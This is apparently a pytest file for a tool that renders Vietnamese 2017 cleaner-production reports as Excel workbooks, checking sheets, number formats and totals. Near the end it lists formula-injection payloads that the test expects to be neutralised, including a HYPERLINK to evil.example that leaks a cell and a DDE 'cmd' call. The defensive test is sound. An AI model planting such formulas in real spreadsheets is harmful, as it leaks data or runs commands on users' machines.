"""The workbook, read back with openpyxl: one sheet per table, numbers as numbers, totals as values."""

from __future__ import annotations

import zipfile
from dataclasses import replace
from datetime import datetime
from io import BytesIO
from typing import Any

import pytest
from openpyxl import load_workbook

from sxsh_flow.reports.model import ConsolidatedReport
from sxsh_flow.reports.xlsx import render_xlsx


@pytest.fixture(scope="module")
def rendered(report: ConsolidatedReport) -> bytes:
    return render_xlsx(report)


@pytest.fixture
def workbook(rendered: bytes) -> Any:
    return load_workbook(BytesIO(rendered))


def _rows(sheet: Any) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _by_header(sheet: Any) -> list[dict[str, Any]]:
    """The data rows as {header: cell}, to assert on values and formats by column name."""
    headers = [cell.value for cell in sheet[1]]
    return [dict(zip(headers, row, strict=True)) for row in sheet.iter_rows(min_row=2) if row[1].value is not None]


def test_one_sheet_per_table_named_by_its_section_of_the_outline(workbook: Any) -> None:
    assert workbook.sheetnames == [
        "Thông tin chung",
        "Mục lục",
        "I.1 Chỉ tiêu",
        "I.2 Khối lượng công việc",
        "I.3 Kinh phí",
        "I.4–IV Nội dung các đơn vị",
        "I.5 Tiến độ theo kỳ",
        "I.5 Đơn vị chậm",
        "PL I Doanh nghiệp",
        "PL III Chỉ tiêu theo đơn vị",
    ]


def test_every_table_has_a_bold_frozen_header_and_set_widths(workbook: Any) -> None:
    for sheet in workbook.worksheets[1:]:
        assert all(cell.font.bold for cell in sheet[1]), sheet.title
        assert (sheet.freeze_panes or "").endswith("2"), sheet.title  # the header row stays in view
        assert sheet.column_dimensions["B"].width >= 12, sheet.title


def test_the_first_sheet_says_what_the_workbook_is(workbook: Any) -> None:
    about = dict(_rows(workbook["Thông tin chung"]))
    assert about["Văn bản"] == "BÁO CÁO Kết quả thực hiện Kế hoạch sản xuất sạch hơn trong công nghiệp năm 2017"
    assert about["Địa danh, ngày ban hành"] == "Hải Dương, ngày 05 tháng 01 năm 2018"
    assert about["Báo cáo"] == "Các đơn vị phải nộp 18 báo cáo, đã nhận 17 báo cáo."
    assert (about["Số báo cáo các đơn vị phải nộp"], about["Số báo cáo đã nhận của các đơn vị"]) == (18, 17)


def test_indicators_are_numbers_with_percentages_as_fractions(workbook: Any) -> None:
    rows = {row["Mã"].value: row for row in _by_header(workbook["I.1 Chỉ tiêu"])}
    assert len(rows) == 8
    informed = rows["informed"]
    assert informed["Kết quả"].value == pytest.approx(0.782)  # 78,2% of the reported sums, not an average
    assert informed["Kết quả"].number_format == "0.0%"
    assert informed["Mục tiêu tối thiểu"].value == pytest.approx(0.9)
    assert (informed["Tử số"].value, informed["Mẫu số"].value) == (1134, 1450)
    assert informed["Tử số"].number_format == "#,##0"
    assert informed["Đánh giá"].value == "Chưa đạt"
    saving = rows["saving"]
    assert (saving["Mục tiêu tối thiểu"].value, saving["Mục tiêu tối đa"].value) == pytest.approx((0.08, 0.13))
    assert saving["% so với mức tối thiểu"].value == pytest.approx(1.175)  # 9,4 / 8
    assert saving["Đánh giá"].value == "Đạt"
    quick = rows["quick_assessments"]
    assert (quick["Kết quả"].value, quick["Mục tiêu tối thiểu"].value) == (9, 15)
    assert quick["Kết quả"].number_format == "#,##0"
    assert quick["Phạm vi mục tiêu"].value == "Cả giai đoạn"
    leaflets = rows["leaflets"]
    assert leaflets["Kết quả"].value == 2800
    assert leaflets["Mục tiêu tối thiểu"].value is None
    assert leaflets["% so với mức tối thiểu"].value is None


def test_indicators_per_agency(workbook: Any) -> None:
    rows = _by_header(workbook["PL III Chỉ tiêu theo đơn vị"])
    assert [(row["Mã đơn vị"].value, row["Tử số"].value, row["Mẫu số"].value) for row in rows] == [
        ("SCT", 812, 1000),
        ("BQLKCN", 322, 450),
    ]
    assert rows[0]["Kết quả"].value == pytest.approx(0.812)


def test_work_volume(workbook: Any) -> None:
    rows = _by_header(workbook["I.2 Khối lượng công việc"])
    assert len(rows) == 7
    leaflets = rows[2]
    assert leaflets["Công việc thực hiện"].value == "Tờ rơi, tài liệu hướng dẫn SXSH được phát hành"
    assert (leaflets["Số lượng"].value, leaflets["Số lượng"].number_format) == (2800, "#,##0")
    assert (rows[1]["Từ năm"].value, rows[1]["Đến năm"].value) == (2016, 2017)
    assert rows[1]["Từ năm"].number_format == "0"  # a year, not an amount: 2016, never 2.016


def test_funding_with_the_total_as_a_value_and_the_amount_in_words(workbook: Any) -> None:
    sheet = workbook["I.3 Kinh phí"]
    rows = _rows(sheet)
    assert rows[0] == [
        "STT",
        "Đơn vị",
        "Ngân sách trung ương",
        "Ngân sách địa phương",
        "Kinh phí khuyến công",
        "Hợp tác quốc tế",
        "Vốn đối ứng của doanh nghiệp",
        "Tổng cộng",
    ]
    assert rows[1] == [1, "Sở Công Thương", 123_000_000, 650_000_000, 0, 0, 0, 773_000_000]
    total = rows[4]
    assert total == [None, "Tổng cộng", 123_000_000, 900_600_000, 0, 0, 0, 1_023_600_000]
    # A value a viewer without recalculation shows, that also equals the sum of the rows above it.
    for column in range(2, 8):
        assert total[column] == sum(row[column] for row in rows[1:4])
    assert all(cell.font.bold for cell in sheet[5])
    assert {sheet.cell(row, column).number_format for row in range(2, 6) for column in range(3, 9)} == {"#,##0"}
    in_words = sheet.cell(7, 2)
    assert in_words.value == "Bằng chữ: Một tỷ, không trăm hai mươi ba triệu, sáu trăm nghìn đồng."
    assert in_words.font.italic


def test_late_and_missing_units_with_dates_as_dates(workbook: Any) -> None:
    rows = _by_header(workbook["I.5 Đơn vị chậm"])
    tu_ky, _, thanh_mien = rows
    assert tu_ky["Đơn vị"].value == "UBND huyện Tứ Kỳ"
    assert tu_ky["Hạn nộp"].value == datetime(2017, 12, 21)
    assert tu_ky["Hạn nộp"].number_format == "dd/mm/yyyy"
    assert tu_ky["Số ngày chậm"].value == 4  # working days, as the emails count
    assert tu_ky["Đơn vị tính ngày"].value == "ngày làm việc"
    assert (tu_ky["Năm"].value, tu_ky["Năm"].number_format) == (2017, "0")
    assert tu_ky["Tình trạng"].value == "Chậm"
    assert thanh_mien["Ngày nộp"].value is None
    assert thanh_mien["Số ngày chậm"].value is None
    assert thanh_mien["Tình trạng"].value == "Chưa nộp"


def test_enterprises(workbook: Any) -> None:
    rows = _by_header(workbook["PL I Doanh nghiệp"])
    assert len(rows) == 5
    assert [rows[0][key].value for key in ("Tên doanh nghiệp", "Nội dung tham gia", "Năm")] == [
        "Công ty TNHH Gốm sứ Chu Đậu Xanh",
        "Đánh giá nhanh SXSH",
        2017,
    ]


def test_timeliness_per_cycle(workbook: Any) -> None:
    rows = _rows(workbook["I.5 Tiến độ theo kỳ"])
    assert rows[1][:7] == [2016, "năm 2016", 18, 14, 3, 1, 0]
    assert rows[1][7] == pytest.approx(14 / 18)
    assert workbook["I.5 Tiến độ theo kỳ"]["H2"].number_format == "0.0%"


def test_without_figures_per_agency_there_is_no_such_sheet(report: ConsolidatedReport) -> None:
    plain = tuple(replace(indicator, by_agency=()) for indicator in report.indicators)
    workbook = load_workbook(BytesIO(render_xlsx(replace(report, indicators=plain))))
    assert "PL III Chỉ tiêu theo đơn vị" not in workbook.sheetnames


def test_the_same_report_gives_the_same_file(report: ConsolidatedReport, rendered: bytes, workbook: Any) -> None:
    assert render_xlsx(report) == rendered
    assert workbook.properties.created == datetime(2018, 1, 5)
    assert workbook.properties.modified == datetime(2018, 1, 5)


def test_an_english_workbook(report: ConsolidatedReport) -> None:
    workbook = load_workbook(BytesIO(render_xlsx(replace(report, language="en"))))
    assert workbook.sheetnames[2] == "I.1 Indicators"
    assert workbook["I.3 Funding"]["B1"].value == "Agency"


HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)


def test_text_that_a_spreadsheet_would_read_as_a_formula_is_written_as_inert_text(report: ConsolidatedReport) -> None:
    # Finding 5 of issue 12: an enterprise named "=..." became a live formula in the coordinator's workbook.
    from sxsh_flow.reports.model import EnterpriseRow

    hostile = tuple(EnterpriseRow(name, name, "Đánh giá nhanh SXSH", 2017, name) for name in HOSTILE_NAMES)
    rendered = render_xlsx(replace(report, enterprises=hostile))
    with zipfile.ZipFile(BytesIO(rendered)) as package:
        sheets = [package.read(name) for name in package.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)  # not one formula in the file
    rows = _by_header(load_workbook(BytesIO(rendered))["PL I Doanh nghiệp"])
    for row, name in zip(rows, HOSTILE_NAMES, strict=True):
        for key in ("Tên doanh nghiệp", "Ngành sản xuất", "Đơn vị báo cáo"):
            assert row[key].data_type == "s"
            assert row[key].value == "'" + name  # OWASP: a leading apostrophe, so a CSV saved from it stays inert


def test_numbers_stay_numbers_even_negative_ones(report: ConsolidatedReport) -> None:
    from sxsh_flow.reports.model import FundingRow

    total = FundingRow("Tổng cộng", {"central_budget": -5, "local_budget": 12_345_678_901_234_567_890_123_456})
    workbook = load_workbook(BytesIO(render_xlsx(replace(report, funding_total=total, funding_by_agency=()))))
    values = [cell.value for row in workbook["I.3 Kinh phí"].iter_rows() for cell in row]
    assert -5 in values
    assert any(isinstance(value, int | float) and value > 10**25 for value in values)
